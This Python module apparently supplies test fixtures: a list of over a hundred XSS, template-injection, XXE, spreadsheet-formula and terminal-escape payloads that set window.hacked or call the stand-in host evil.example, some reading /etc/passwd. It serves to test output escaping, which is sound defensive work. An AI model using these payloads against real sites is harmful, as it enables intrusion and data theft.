"""Texts that try to run a script, make a request or break a format: more than a hundred, built of a few families.

Every family answers one way in which pages have been broken: markup, attributes, addresses, style, templates, comments
and encodings. Each payload that could run anything sets `window.hacked` or asks for `https://evil.example`, so that a
browser can tell whether one of them did.
"""

from __future__ import annotations

from itertools import product

from .pages import PAYLOADS as PLAIN

RUN = "window.hacked=1"
FAR = "https://evil.example/x"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={FAR}.js></script>",
    f"<script type=module>import '{FAR}.js'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={FAR}.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={FAR}.mp4 onerror={RUN} autoplay></video>",
    f"<audio src={FAR}.mp3 autoplay></audio>",
    f"<iframe src={FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<link rel=stylesheet href={FAR}.css>",
    f"<link rel=preload as=image href={FAR}.png>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}/>",
    f"<form action={FAR} id=f></form><button form=f autofocus>x</button>",
    f"<style>@import url({FAR}.css);body{{background:url({FAR}.png)}}</style>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<marquee onstart={RUN}>x</marquee>",
)
# What may stand around the text where a page puts it: an attribute, a title, a style, a script, a comment, a cell.
_BEFORE = ("", '">', "'>", "</title>", "</style>", "</script>", "-->", "</td></table>", "]]>")
_OPENERS = ("<script>", "<img src=x onerror=", "<svg onload=")
_ATTRIBUTES = tuple(
    f"{quote} {event}={quote}{RUN}{quote} x={quote}"
    for quote, event in product(
        ('"', "'", "`"), ("onmouseover", "onfocus autofocus tabindex=1 onfocus", "onpointerenter")
    )
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"{FAR}",
    "//evil.example/x",
    "file:///etc/passwd",
    "url(https://evil.example/x.png)",
    "expression(window.hacked=1)",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "${window.hacked=1}",
    "<%= 7 * 7 %>",
    "%(asctime)s %s %n",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "toString",
)
_ENCODED = (
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\ufeff<script>window.hacked=1</script>",
    "<\x00script>window.hacked=1</script>",
    "＜script＞window.hacked=1＜/script＞",
    "<scr\u200bipt>window.hacked=1</script>",
    "\u202e>tpircs/<1=dekcah.wodniw>tpircs<",
)
# What spreadsheets, Markdown, XML and terminals take for more than text.
_FORMATS = (
    *(f"{sign}cmd|' /C calc'!A0" for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")),
    "=IMPORTXML(\"https://evil.example/x\",\"//a\")",
    '=HYPERLINK("https://evil.example/x","click")',
    "![x](https://evil.example/x.png)",
    "[x](javascript:window.hacked=1)",
    "<https://evil.example/x>",
    "x | y |\n|---|---|\n| z",
    "```\ncode\n```",
    "# heading\n\n- list",
    "@everyone #1 :tada:",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'>]>&a;",
    "::error file=a,line=1::x%0A",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07\x1b[2J",
    "\x08\x7f\x85\ud800 \udfff\ufffe",
)  # fmt: skip

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *PLAIN,
            *_TAGS,
            *(f"{before}{opener}{RUN}</script>" for before, opener in product(_BEFORE[1:], _OPENERS)),
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_TEMPLATES,
            *_ENCODED,
            *_FORMATS,
        )
    )
)
